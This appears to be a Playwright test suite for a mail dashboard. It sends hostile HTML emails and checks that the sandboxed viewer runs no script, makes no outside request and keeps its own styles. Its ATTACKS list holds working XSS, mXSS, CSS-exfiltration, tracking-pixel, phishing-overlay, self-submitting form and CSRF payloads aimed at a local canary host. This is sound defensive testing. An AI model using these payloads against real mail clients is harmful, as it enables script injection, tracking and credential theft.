// Hostile HTML mail in the dashboard, delivered by SMTP and opened in a browser: nothing of it runs, nothing leaves for anywhere,
// the page stays where it is. And the mail's own styles show, or the fence would be a wall.
import { once } from "node:events";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { expect, type Page, test } from "@playwright/test";
import { createTransport } from "nodemailer";
import { BASE_URL, newInbox } from "./mailbox.ts";
import { ask, signInAsOwner } from "./owner.ts";

const SETTLE_MS = 700;
const SVG =
  "data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=";

/** `canary`: an address that nothing may ever ask. Whatever runs may call `ran()`. */
const ATTACKS: [name: string, html: (canary: string) => string][] = [
  ["script elements", (c) => `<script>top.ran=1;fetch("${c}/script")</script><script src="${c}/script.js"></script>`],
  [
    "event attributes",
    (c) =>
      `<img src=x onerror="fetch('${c}/error')"><body onload="fetch('${c}/load')"><details open ontoggle="fetch('${c}/toggle')">x</details><style onload="fetch('${c}/style')"></style><marquee onstart="fetch('${c}/marquee')">x</marquee>`,
  ],
  [
    "drawings and formulas",
    (c) =>
      `<svg onload="fetch('${c}/svg')"><script>fetch("${c}/s")</script><image href="${c}/image.png"/><use href="${c}/use.svg#a"/><foreignObject><img src="${c}/fo.png"></foreignObject><animate onbegin="fetch('${c}/animate')"/></svg><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=fetch('${c}/mxss')&gt;"></table></math>`,
  ],
  [
    "what browsers parse twice",
    (c) =>
      `<noscript><p title="</noscript><img src=${c}/noscript.png onerror=fetch('${c}/n')>"></noscript><textarea><img src="${c}/textarea.png"></textarea><template><img src="${c}/template.png"></template><template shadowrootmode="open"><img src="${c}/shadow.png"></template><xmp><img src="${c}/xmp.png"></xmp><!--><img src="${c}/comment.png">--><![CDATA[><img src="${c}/cdata.png">]]>`,
  ],
  [
    "remote pictures",
    (c) =>
      `<img src="${c}/pixel.gif" width=1 height=1><img srcset="${c}/set.png 2x"><picture><source srcset="${c}/source.png"><img></picture><input type=image src="${c}/input.png"><video poster="${c}/poster.png" src="${c}/video.mp4" autoplay></video><audio src="${c}/audio.mp3" autoplay></audio><table background="${c}/table.png"><tr><td background="${c}/td.png">x</table><body background="${c}/body.png"><img lowsrc="${c}/low.png" dynsrc="${c}/dyn.avi"><link rel=icon href="${c}/icon.png"><img src="${SVG}">`,
  ],
  [
    "CSS that fetches",
    (c) =>
      `<style>@import "${c}/import.css";@import url(${c}/import2.css);@font-face{font-family:x;src:url(${c}/font.woff)}body,p{font-family:x;background:url(${c}/bg.png);cursor:url(${c}/cursor.cur),auto;list-style:url(${c}/list.png);border-image:url(${c}/border.png) 1}p::after{content:url(${c}/content.png)}@import url("${c}/late.css")</style><p style="background-image:u\\72l(${c}/escaped.png)">x</p><p style="background:image-set('${c}/set1.png' 1x)">x</p><p style='background:url("${c}/attr.png")'>x</p><style>p[class^="a"]{background:url(${c}/leak-a)}</style><p class="abc">x</p><div style="filter:url(${c}/filter.svg#f);mask:url(${c}/mask.svg);offset-path:url(${c}/path.svg)">x</div>`,
  ],
  [
    "links that fetch by themselves",
    (c) =>
      `<link rel=stylesheet href="${c}/sheet.css"><link rel=prefetch href="${c}/prefetch"><link rel=preload as=image href="${c}/preload.png"><link rel=preconnect href="${c}"><link rel=dns-prefetch href="${c}"><link rel=modulepreload href="${c}/module.js"><link rel=prerender href="${c}/prerender"><link rel=manifest href="${c}/manifest.json"><script type=speculationrules>{"prerender":[{"source":"list","urls":["${c}/rules"]}]}</script>`,
  ],
  [
    "meta elements",
    (c) =>
      `<meta http-equiv="refresh" content="0;url=${c}/refresh"><meta http-equiv="Content-Security-Policy" content="default-src *"><meta http-equiv="set-cookie" content="a=b"><meta name=referrer content=unsafe-url>`,
  ],
  ["a base for everything", (c) => `<base href="${c}/" target="_top"><img src="based.png"><a href="relative">x</a>`],
  [
    "frames and plug-ins",
    (c) =>
      `<iframe src="${c}/iframe"></iframe><iframe srcdoc="<img src='${c}/srcdoc.png'><script>top.location='${c}/top'</script>"></iframe><object data="${c}/object"></object><embed src="${c}/embed"><applet code="${c}/applet"></applet><frameset><frame src="${c}/frame"></frameset><portal src="${c}/portal"></portal><fencedframe src="${c}/fenced"></fencedframe>`,
  ],
  [
    "forms that send themselves",
    (c) =>
      `<form id=f action="${c}/form" method=post><input name=password autofocus onfocus="this.form.submit()"><button autofocus>Sign in</button></form><form action="/trpc/team.leave" method=post target=_top><input type=submit value="Continue"></form><isindex action="${c}/isindex"><button form=f formaction="${c}/formaction">x</button>`,
  ],
  [
    "a cover over everything",
    (c) =>
      `<div style="position:fixed;inset:0;z-index:2147483647;background:#fff"><a href="${c}/cover" style="display:block;height:100%">Your session has ended. Sign in again.</a></div>`,
  ],
  [
    "a table too large",
    () =>
      `<table>${"<tr>".repeat(200)}${`<td colspan=1000 rowspan=65534 width=99999999>x`.repeat(300)}</table>${"<div>".repeat(5_000)}deep${"<b><i>".repeat(2_000)}`,
  ],
];

const PNG = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNk+A8AAQUBAScY42YAAAAASUVORK5CYII=",
  "base64",
);
type Canary = { url: string; asked: string[]; server: Server };
let canary: Canary;
let addr = "";
/** Message id and thread id by the name of the attack. */
const mails = new Map<string, { id: string; thread_id: string }>();
const PROOF = `<style>.proof { color: rgb(1, 2, 3) }</style><p class="proof" style="background-color: rgb(4, 5, 6)">Seen</p>`;

const LINK = "a link to follow";
type Listed = { data: { id: string; thread_id: string; subject: string }[] };

test.describe.configure({ mode: "serial" });

test.beforeAll(async ({ browser }) => {
  const asked: string[] = [];
  const server = createServer((req, res) => {
    asked.push(`${req.method} ${req.url}`);
    res.end(req.url === "/shown.png" ? PNG : "");
  });
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  canary = { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, asked, server };

  const context = await browser.newContext();
  await signInAsOwner(context, BASE_URL);
  addr = await newInbox(context);
  const port = Number(process.env.E2E_SMTP_PORT);
  const transport = createTransport({ host: "127.0.0.1", port, tls: { rejectUnauthorized: false } });
  const picture = `<img class="shown" width="60" height="60" src="${canary.url}/shown.png">`;
  const link = `<a href="${canary.url}/followed">Follow me</a>${picture}<img src="${canary.url}/pixel.png" width="1">`;
  for (const [subject, html] of [...ATTACKS, [LINK, () => link] as const]) {
    await transport.sendMail({ from: "mallory@evil.example", to: addr, subject, html: html(canary.url) + PROOF });
  }
  transport.close();
  const { data } = await ask<Listed>(context, BASE_URL, "messages.list", { addr, limit: 100 });
  for (const { subject, id, thread_id } of data) mails.set(subject, { id, thread_id });
  await context.close();
});

test.afterAll(() => {
  canary.server.close();
});

/** Everything that would show that something got out of the frame. */
async function watch(page: Page) {
  const seen: string[] = [];
  const origin = new URL(BASE_URL).origin;
  page.on("request", (request) => {
    const url = new URL(request.url());
    const isOurs = url.origin === origin || url.protocol === "data:" || url.protocol === "blob:";
    if (!isOurs) seen.push(`asked ${request.url()}`);
    if (request.method() === "POST" && !/^\/trpc\/(?:messages\.markRead|threads\.mark)/.test(url.pathname))
      seen.push(`posted ${request.url()}`);
  });
  page.on("dialog", (dialog) => {
    seen.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on("popup", (popup) => seen.push(`popup ${popup.url()}`));
  page.on("download", (download) => seen.push(`download ${download.url()}`));
  page.on("framenavigated", (frame) => {
    const path = new URL(frame.url(), origin).pathname;
    const isExpected = frame === page.mainFrame() ? path === "/dashboard/mail" : /^\/mail-html\/msg_/.test(path);
    if (!isExpected && frame.url() !== "about:blank" && frame.url() !== "") seen.push(`navigated ${frame.url()}`);
  });
  return seen;
}

const pathOf = (thread: string) => `/dashboard/mail?${new URLSearchParams({ inbox: addr, thread })}`;

for (const [name, html] of ATTACKS) {
  test(`${name}: nothing runs, nothing leaves, and the mail shows`, async ({ page, context }) => {
    await signInAsOwner(context, BASE_URL);
    const mail = mails.get(name);
    const seen = await watch(page);
    await page.goto(pathOf(mail?.thread_id ?? ""));
    const frame = page.frameLocator("iframe");
    const proof = frame.locator(".proof");
    if (name === "what browsers parse twice" || name === "a table too large") await expect(proof).toBeAttached();
    else await expect(proof).toHaveText("Seen");
    await expect(proof).toHaveCSS("color", "rgb(1, 2, 3)");
    await expect(proof).toHaveCSS("background-color", "rgb(4, 5, 6)");
    await page.waitForTimeout(SETTLE_MS);
    expect(await page.evaluate(() => "ran" in window)).toBe(false);
    expect(page.frames()).toHaveLength(2);
    expect(seen).toEqual([]);
    expect(canary.asked).toEqual([]);
    expect(page.url()).toContain("/dashboard/mail");
    await expect(page.getByRole("heading", { level: 1 })).toHaveText(addr);
    expect(html(canary.url)).not.toBe("");
  });
}

test("pictures are loaded by the service when asked; a link says where it leads and opens beside the page", async ({
  page,
  context,
}) => {
  await signInAsOwner(context, BASE_URL);
  await page.goto(pathOf(mails.get(LINK)?.thread_id ?? ""));
  const picture = page.frameLocator("iframe").locator("img.shown");
  await expect(picture).toBeAttached();
  await expect(picture).not.toHaveAttribute("src", /./);
  expect(canary.asked).toEqual([]);
  await page.screenshot({ path: "test-results/screenshots/remote-images.png" });
  const seen = await watch(page);
  await page.getByRole("button", { name: "Show images" }).click();
  await expect(picture).toHaveAttribute("src", `data:image/png;base64,${PNG.toString("base64")}`);
  await expect(page.getByRole("status").filter({ hasText: "The service loaded the images" })).toBeVisible();
  // The browser asked nothing of the other server, and the invisible picture was not loaded.
  expect([seen, canary.asked]).toEqual([[], ["GET /shown.png"]]);
  const link = page.frameLocator("iframe").getByRole("link", { name: "Follow me" });
  await expect(link).toHaveAttribute("title", new RegExp(`^Leads to ${new URL(canary.url).host}`));
  const [popup] = await Promise.all([context.waitForEvent("page"), link.click()]);
  await popup.waitForLoadState();
  // The canary does sing when it is asked: its silence above means something.
  expect(canary.asked).toContain("GET /followed");
  expect(await popup.evaluate(() => [window.opener, document.referrer])).toEqual([null, ""]);
  expect(page.url()).toContain("/dashboard/mail");
});
